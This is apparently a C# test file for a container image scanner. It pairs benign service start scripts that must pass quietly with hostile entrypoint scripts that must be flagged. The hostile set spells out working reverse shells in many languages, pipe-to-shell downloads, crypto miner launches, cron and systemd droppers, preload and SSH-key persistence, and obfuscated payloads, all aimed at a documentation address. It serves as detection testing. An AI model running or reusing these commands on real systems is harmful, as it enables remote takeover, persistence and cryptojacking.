using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Core.Stages;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

/// <summary>Start scripts of both kinds in shapes that no rule was written for: the honest ones are quiet, the others are called what they are. Addresses are of documentation.</summary>
public sealed class HeldOutScriptTests
{
    /// <summary>Name and body of what services do at their start.</summary>
    public static TheoryData<string, string> Honest => new()
    {
        { "tini, gosu and a folder", "chown -R app:app /data\nexec tini -g -- gosu app:app /srv/server --listen 0.0.0.0:8080" },
        { "su-exec as given", "uid=${PUID:-1000}\nsed -i \"s/^app:x:[0-9]*:/app:x:$uid:/\" /etc/passwd\nexec su-exec \"$uid\" \"$@\"" },
        { "templates", "for t in /etc/nginx/templates/*.template; do envsubst \"$(printf '${%s} ' $(env | cut -d= -f1))\" < \"$t\" > \"/etc/nginx/conf.d/$(basename \"$t\" .template)\"; done\nexec nginx -g 'daemon off;'" },
        { "java", "JAVA_OPTS=\"${JAVA_OPTS:-} -XX:MaxRAMPercentage=75 -Djava.security.egd=file:/dev/./urandom -Djava.io.tmpdir=/tmp\"\nexec java $JAVA_OPTS -javaagent:/opt/otel.jar -jar /app/app.jar \"$@\"" },
        { "pm2", "npm config set registry \"${NPM_REGISTRY:-https://registry.npmjs.org}\"\nnpm ci --omit=dev\nexec npx pm2-runtime start ecosystem.config.js --web 9615" },
        { "wait for ports", "for hp in $WAIT_FOR; do h=${hp%:*}; p=${hp#*:}; until (echo > /dev/tcp/$h/$p) 2>/dev/null; do echo \"waiting for $h\"; sleep 1; done; done\nexec \"$@\"" },
        { "wait with nc", "while ! nc -z -w 2 \"${DB_HOST:-db}\" \"${DB_PORT:-5432}\"; do sleep 1; done\nexec \"$@\"" },
        { "certbot", "if [ ! -f /etc/letsencrypt/live/$D/fullchain.pem ]; then openssl req -x509 -nodes -newkey rsa:2048 -days 1 -keyout /tmp/k.pem -out /tmp/c.pem -subj /CN=localhost; fi\ntrap exit TERM\nwhile :; do certbot renew --webroot -w /var/www/certbot --deploy-hook 'nginx -s reload'; sleep 12h & wait $!; done" },
        { "logrotate", "cat > /etc/logrotate.d/app <<EOF\n/var/log/app/*.log { daily rotate 7 compress copytruncate }\nEOF\nwhile true; do logrotate -s /tmp/state /etc/logrotate.conf; sleep 3600; done &\nexec /srv/server" },
        { "gunicorn", "python3 manage.py migrate --noinput\npython3 manage.py collectstatic --noinput\nexec gunicorn config.wsgi:application -b 0.0.0.0:8000 -w ${WEB_CONCURRENCY:-3} --access-logfile -" },
        { "celery", "rm -f /tmp/celerybeat.pid\nexec celery -A app.tasks beat -l info --pidfile=/tmp/celerybeat.pid -s /tmp/celerybeat-schedule" },
        { "mosquitto", "touch /mosquitto/config/passwd\n[ -n \"$MQTT_USER\" ] && mosquitto_passwd -b /mosquitto/config/passwd \"$MQTT_USER\" \"$MQTT_PASSWORD\"\nexec mosquitto -c /mosquitto/config/mosquitto.conf" },
        { "minio client", "until mc alias set local http://minio:9000 \"$MINIO_ROOT_USER\" \"$MINIO_ROOT_PASSWORD\"; do sleep 1; done\nmc mb -p local/backups\nmc anonymous set none local/backups" },
        { "clone with large files", "git config --global --add safe.directory /srv/repo\n[ -d /srv/repo/.git ] || git clone --depth 1 \"$GIT_URL\" /srv/repo\ncd /srv/repo && git lfs install --local && git lfs pull && git submodule update --init" },
        { "packages asked for", "[ -z \"$EXTRA_APT\" ] || { apt-get update && apt-get install -y --no-install-recommends $EXTRA_APT && rm -rf /var/lib/apt/lists/*; }\n[ -z \"$EXTRA_PIP\" ] || pip install --no-cache-dir $EXTRA_PIP\nexec \"$@\"" },
        { "apk", "apk add --no-cache --virtual .run-deps curl tzdata\ncp /usr/share/zoneinfo/$TZ /etc/localtime\necho \"$TZ\" > /etc/timezone\nexec /srv/server" },
        { "php and supervisor", "sed -i \"s|^;*pm.max_children = .*|pm.max_children = ${FPM_CHILDREN:-20}|\" /etc/php/8.2/fpm/pool.d/www.conf\nphp artisan config:cache\nphp artisan migrate --force\nexec supervisord -n -c /etc/supervisor/supervisord.conf" },
        { "rails", "rm -f tmp/pids/server.pid\nbundle exec rails db:prepare\nexec bundle exec puma -C config/puma.rb" },
        { "secrets from files", "for v in $(env | grep '_FILE=' | cut -d= -f1); do f=\"${!v}\"; [ -r \"$f\" ] && export \"${v%_FILE}\"=\"$(cat \"$f\")\"; unset \"$v\"; done\nexec \"$@\"" },
        { "certificate from a variable", "[ -z \"$CA_BUNDLE_B64\" ] || { echo \"$CA_BUNDLE_B64\" | base64 -d > /usr/local/share/ca-certificates/own.crt; update-ca-certificates; }\nexec /srv/server" },
        { "backup", "ts=$(date +%Y%m%d)\npg_dump -Fc \"$DATABASE_URL\" | gzip > /backup/$ts.gz\naws s3 cp /backup/$ts.gz s3://$BUCKET/ --only-show-errors\nfind /backup -name '*.gz' -mtime +7 -delete" },
        { "health to a hook", "notify() { curl -fsS -m 10 --retry 3 -o /dev/null \"https://hc-ping.example/$CHECK_ID${1:-}\"; }\nnotify /start; /srv/job && notify || notify /fail" },
        { "leader by a lock", "exec flock -n /tmp/lock -c '/srv/server --leader'" },
        { "agent for ssh keys", "eval \"$(ssh-agent -s)\"\necho \"$SSH_KEY\" | tr -d '\\r' | ssh-add -\nmkdir -p ~/.ssh && ssh-keyscan -t ed25519 github.com >> ~/.ssh/known_hosts\nexec \"$@\"" },
        { "kubernetes", "KUBE_CA=/var/run/secrets/kubernetes.io/serviceaccount/ca.crt\nkubectl wait --for=condition=ready pod -l app=db --timeout=60s\nexec \"$@\"" },
        { "sysctl hints", "[ \"$(cat /proc/sys/vm/max_map_count)\" -ge 262144 ] || echo 'vm.max_map_count is low' >&2\nulimit -n 65536\nexec \"$@\"" },
        { "jemalloc", "if [ -f /usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ]; then export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2; fi\nexec \"$@\"" },
        { "signals", "term() { kill -TERM \"$child\" 2>/dev/null; wait \"$child\"; exit 0; }\ntrap term TERM INT\n/srv/server & child=$!\nwait \"$child\"" },
    };

    /// <summary>Name and body of what no service does.</summary>
    public static TheoryData<string, string> Hostile => new()
    {
        { "base64 from a variable", "P=ZWNobyBoaQ==\necho \"$P\" | base64 -d | sh" },
        { "base64 from the environment", "echo $BOOTSTRAP | base64 --decode | bash &\nexec nginx" },
        { "download through a variable", "U=http://203.0.113.9/i.sh\ncurl -fsSL $U | bash" },
        { "download by two variables", "G=curl; S=sh\n$G -s http://203.0.113.9/i.sh | $S" },
        { "download, make executable, run", "wget -q http://203.0.113.9/k -O /tmp/.k && chmod 777 /tmp/.k && /tmp/.k &" },
        { "download by python", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())\"" },
        { "python socket", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" },
        { "python with an alias", "python3 -c 'import socket as k,subprocess as p,os;c=k.socket();c.connect((\"203.0.113.9\",443));os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);p.call([\"/bin/sh\",\"-i\"])'" },
        { "perl", "perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'" },
        { "ruby", "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'" },
        { "php", "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'" },
        { "lua", "lua5.4 -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.9','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"" },
        { "awk", "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(1) { do { printf \"$ \" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'" },
        { "nc -e", "nc 203.0.113.9 4444 -e /bin/sh" },
        { "nc by a variable", "N=nc\n$N -e /bin/sh 203.0.113.9 4444" },
        { "socat with a terminal", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444" },
        { "busybox telnet", "rm -f /tmp/p; mknod /tmp/p p && telnet 203.0.113.9 4444 0</tmp/p | /bin/sh 1>/tmp/p" },
        { "busybox nc fifo", "mkfifo /tmp/f; busybox nc 203.0.113.9 4444 < /tmp/f | busybox sh > /tmp/f 2>&1" },
        { "openssl", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s; rm /tmp/s" },
        { "dev tcp loop", "while :; do bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; sleep 30; done" },
        { "dev tcp by a descriptor", "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done" },
        { "miner renamed", "cp /opt/x /usr/bin/nginx2\n/usr/bin/nginx2 -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1" },
        { "miner with a file", "cat > /tmp/c.json <<EOF\n{\"donate-level\": 1, \"pools\": [{\"url\": \"pool.example:443\", \"user\": \"x\", \"tls\": true}]}\nEOF\n/opt/worker -c /tmp/c.json" },
        { "miner through a proxy", "/opt/worker --algo rx/0 -o stratum+ssl://203.0.113.9:443 --proxy 203.0.113.10:1080 -u wallet" },
        { "cron dropper", "echo '*/5 * * * * root curl -s http://203.0.113.9/u | sh' > /etc/cron.d/update" },
        { "crontab from a pipe", "(crontab -l 2>/dev/null; echo '* * * * * wget -qO- http://203.0.113.9/u | sh') | crontab -" },
        { "preload", "cp /opt/lib.so /usr/local/lib/libh.so; echo /usr/local/lib/libh.so >> /etc/ld.so.preload" },
        { "keys", "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx0000000000000000000000000000000000000000000 x' >> /root/.ssh/authorized_keys" },
        { "unit", "printf '[Service]\\nExecStart=/bin/sh -c \"curl http://203.0.113.9/u | sh\"\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/u.service; systemctl enable u" },
        { "way in over ssh", "ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@203.0.113.9" },
        { "rivals", "pkill -9 xmrig; pkill -f kdevtmpfsi; ps aux | grep -v grep | grep stratum | awk '{print $2}' | xargs kill -9" },
        { "memory", "python3 -c \"import ctypes,os,urllib.request as u;f=ctypes.CDLL(None).memfd_create(b'x',1);os.write(f,u.urlopen('http://203.0.113.9/b').read());os.execv('/proc/self/fd/%d'%f,['x'])\"" },
        { "hex", "echo 6375726c | xxd -r -p | sh" },
        { "reversed", "echo 'hs | x/9.311.0.302//:ptth s- lruc' | rev | sh" },
        { "octal", "printf '\\143\\165\\162\\154 x' | sh" },
        { "gzip and base64", "echo H4sIAAAAAAAAA0tNzshXyMgEAKmD4xcIAAAA | base64 -d | gunzip | bash" },
        { "openssl as decoder", "openssl enc -aes-256-cbc -d -pass pass:x -in /opt/.d | sh" },
    };

    [Theory]
    [MemberData(nameof(Honest))]
    public async Task ScanAsync_HonestScript_IsQuiet(string name, string body)
    {
        Assert.NotEmpty(name);
        IsQuiet(await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"], Command = ["nginx"] }, System().File("/entry.sh", "#!/bin/bash\nset -e\n" + body + "\n")));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task ScanAsync_HostileScript_IsFound(string name, string body)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/entry.sh"] }, System().File("/entry.sh", "#!/bin/bash\n" + body + "\n"));

        Assert.True(Remarks(outcome).Any(finding => finding.Severity >= Severity.Medium), name);
        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
    }

    private static TestKit.Content.FakeImageContent System()
        => UsualSystem().File("/srv/server", Program()).File("/srv/job", Program()).File("/opt/x", Program()).File("/opt/worker", Program()).Directory("/data");
}
